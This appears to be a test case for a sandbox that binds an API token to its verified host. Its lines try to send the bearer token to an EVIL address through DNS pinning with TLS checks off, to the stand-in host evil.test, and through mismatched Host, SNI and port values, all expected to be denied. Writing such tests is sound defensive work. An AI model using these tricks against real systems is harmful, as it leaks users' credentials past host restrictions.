# id: CR-02
# title: another host, name or address with a placeholder
# expect: D the secret goes to the verified server of its host alone
# timeout: 40
# needs: internet credential
# denied: 93.184.216.66 not_listed
# denied: api.bound.test authority_mismatch
# denied: api.bound.test sni_mismatch
# escaped: ^GOT
# safe: ^done

field = f"Authorization: Bearer {os.environ['API_TOKEN']}\r\n"
outcome("address", web("https://api.bound.test/echo", "-k", "--resolve", f"api.bound.test:443:{EVIL}", "-H", field.strip()))
outcome("host elsewhere", tls("l7.allowed.test", request("api.bound.test", "/v1/echo", "GET", field)))
outcome("hello elsewhere", tls("allowed.test", request("api.bound.test", "/v1/echo", "GET", field), sni="api.bound.test"))
outcome("host", tls("api.bound.test", request("l7.allowed.test", "/v1/echo", "GET", field)))
outcome("absolute", tls("api.bound.test", request("api.bound.test", "https://evil.test/v1/echo", "GET", field)))
outcome("hello", tls("api.bound.test", request("api.bound.test", "/v1/echo", "GET", field), sni="l7.allowed.test"))
outcome("no name", tls("api.bound.test", request("api.bound.test", "/v1/echo", "GET", field), sni=""))
outcome("port", tls("api.bound.test", request("api.bound.test", "/v1/echo", "GET", field), port=8443))
print("done")
